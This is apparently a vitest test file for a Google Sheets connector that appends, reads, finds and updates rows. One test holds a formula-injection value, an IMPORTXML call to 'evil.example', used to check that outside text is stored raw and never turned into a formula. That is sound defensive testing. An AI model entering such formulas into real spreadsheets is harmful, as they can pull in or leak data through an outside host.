import { afterAll, beforeAll, expect, test } from 'vitest';
import * as z from 'zod/mini';
import type { TestApp } from '#accounts/test-app.ts';
import { createTestGoogle } from '#accounts/test-google.ts';
import type { StepAccount } from '#integrations/define-connector.ts';
import { appendRow } from '#integrations/google-sheets/append-row.ts';
import { googleSheets } from '#integrations/google-sheets/connector.ts';
import { findRow } from '#integrations/google-sheets/find-row.ts';
import { readRange } from '#integrations/google-sheets/read-range.ts';
import { updateCells } from '#integrations/google-sheets/update-cells.ts';

let google: TestApp;
let owner: StepAccount;
beforeAll(async () => {
  google = await createTestGoogle();
  owner = await google.connect(googleSheets, ['https://www.googleapis.com/auth/spreadsheets']);
});
afterAll(() => google.close());

const SHEETS = 'https://sheets.googleapis.com/v4/spreadsheets';
const read = (answer: { bytes: Uint8Array }) => JSON.parse(Buffer.from(answer.bytes).toString()) as unknown;

/** A spreadsheet with these sheets; answers its link. */
async function make(...titles: string[]): Promise<string> {
  const answer = await owner.fetch(SHEETS, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ sheets: titles.map((title) => ({ properties: { title } })) }),
  });
  const { spreadsheetId } = z.object({ spreadsheetId: z.string() }).parse(read(answer));
  return `https://docs.google.com/spreadsheets/d/${spreadsheetId}/edit#gid=0`;
}

const add = async (inputs: Record<string, string>) => (await google.run(appendRow, inputs)).outputs;
const rowsOf = async (inputs: Record<string, string>) => {
  const { outputs } = await google.run(readRange, inputs);
  return JSON.parse(outputs.rows ?? '') as unknown;
};
/** As they are kept, with their types. */
async function keptIn(link: string, range: string): Promise<unknown> {
  const id = /\/d\/([\w-]+)/.exec(link)?.[1];
  const asked = `${SHEETS}/${id}/values/${encodeURIComponent(range)}?valueRenderOption=UNFORMATTED_VALUE`;
  return z.object({ values: z.unknown() }).parse(read(await owner.fetch(asked))).values;
}

test('rows are added below each other, to the sheet that is named', async () => {
  const sheet = "Ada's orders";
  const spreadsheet = await make('First', sheet);
  expect(await add({ spreadsheet, sheet, a: 'Number', b: 'Price' })).toEqual({
    range: "'Ada''s orders'!A1:B1",
    count: '1',
  });
  await add({ spreadsheet, sheet, a: '2041', b: '39.50', d: 'late' });
  expect(await rowsOf({ spreadsheet, sheet })).toEqual([
    { Number: '2041', Price: '39.5', 'Column 3': '', 'Column 4': 'late' },
  ]);
  expect(await rowsOf({ spreadsheet })).toEqual([]);
});

test('numbers are numbers, and a text from outside never becomes a formula', async () => {
  const spreadsheet = await make('Sheet1');
  const formula = '=IMPORTXML("https://evil.example","/")';
  await add({ spreadsheet, a: '39.50', b: '007', c: formula, d: '1e5' });
  expect(google.requests.at(-1)?.address).toContain('valueInputOption=RAW');
  expect(await keptIn(spreadsheet, 'A1:D1')).toEqual([[39.5, '007', formula, '1e5']]);
  await add({ spreadsheet, a: '=1+1', entered: 'as_typed' });
  expect(google.requests.at(-1)?.address).toContain('valueInputOption=USER_ENTERED');
});

test('rows of an earlier step go under the columns with their names', async () => {
  const spreadsheet = await make('Sheet1');
  await add({ spreadsheet, rows: '[{"Name":"Lantern","Price":"39"}]' });
  await add({ spreadsheet, rows: '[{"Price":"12","Name":"Rope"},{"Name":"Map"}]' });
  expect(await keptIn(spreadsheet, 'A1:B4')).toEqual([
    ['Name', 'Price'],
    ['Lantern', 39],
    ['Rope', 12],
    ['Map'],
  ]);
  await expect(add({ spreadsheet, rows: '[{"Colour":"red"}]' })).rejects.toThrow(
    'The sheet has no column “Colour”. It has: Name, Price.',
  );
  await expect(add({ spreadsheet, a: 'x', rows: '[{"Name":"x"}]' })).rejects.toThrow('Both columns and');
  await expect(add({ spreadsheet })).rejects.toThrow('nothing to write');
});

test('a part of a sheet is read, with or without names of columns', async () => {
  const spreadsheet = await make('Sheet1');
  await add({ spreadsheet, a: 'A', b: 'B' });
  await add({ spreadsheet, a: '1', b: '2' });
  await add({ spreadsheet, a: '3', b: '4' });
  expect(await rowsOf({ spreadsheet, range: 'a2:b3', header: 'values' })).toEqual([
    ['1', '2'],
    ['3', '4'],
  ]);
  expect((await google.run(readRange, { spreadsheet, range: 'B3' })).outputs.first_cell).toBe('4');
  await expect(rowsOf({ spreadsheet, range: 'B3/../x' })).rejects.toThrow('is not a range of cells');
  await expect(rowsOf({ spreadsheet, sheet: 'Missing' })).rejects.toThrow('Unable to parse range');
});

test('a row is found by the value of a column, and changed', async () => {
  const spreadsheet = await make('Orders');
  await add({ spreadsheet, a: 'Order', b: 'Status', c: 'Note' });
  await add({ spreadsheet, a: '2040', b: 'paid' });
  await add({ spreadsheet, a: '2041', b: 'open', c: 'keep' });
  const found = await google.run(findRow, { spreadsheet, column: 'order', value: ' 2041 ' });
  expect(found.outputs).toEqual({
    row_number: '3',
    row: '{"Order":"2041","Status":"open","Note":"keep"}',
  });
  const cell = `B${found.outputs.row_number}`;
  const changed = await google.run(updateCells, { spreadsheet, cell, value: 'paid' });
  expect(changed.outputs.range).toBe('Orders!B3:B3');
  await google.run(updateCells, { spreadsheet, cell: 'A3', value: '2042', third: 'new' });
  expect(await keptIn(spreadsheet, 'A3:C3')).toEqual([[2042, 'paid', 'new']]);
  const wide = { spreadsheet, cell: 'A1:B2', value: 'x' };
  await expect(google.run(updateCells, wide)).rejects.toThrow('is not a cell');
});

test('what is not there fails the run, or leaves the outputs empty, as was chosen', async () => {
  const spreadsheet = await make('Sheet1');
  await add({ spreadsheet, a: 'Order' });
  const inputs = { spreadsheet, column: 'Order', value: '7' };
  await expect(google.run(findRow, inputs)).rejects.toThrow('No row has “7” in “Order”.');
  expect((await google.run(findRow, { ...inputs, otherwise: 'go_on' })).outputs).toEqual({
    row_number: '',
    row: '{}',
  });
  await expect(google.run(findRow, { ...inputs, column: 'Colour' })).rejects.toThrow(
    'Its first row has: Order.',
  );
});

test('a row is not added twice when the answer to it is lost', async () => {
  const spreadsheet = await make('Sheet1');
  google.answerNext(':append', ['cut']);
  await expect(add({ spreadsheet, a: 'once' })).rejects.toThrow('The connection was cut.');
  expect(await keptIn(spreadsheet, 'A1:A9')).toEqual([['once']]);
});
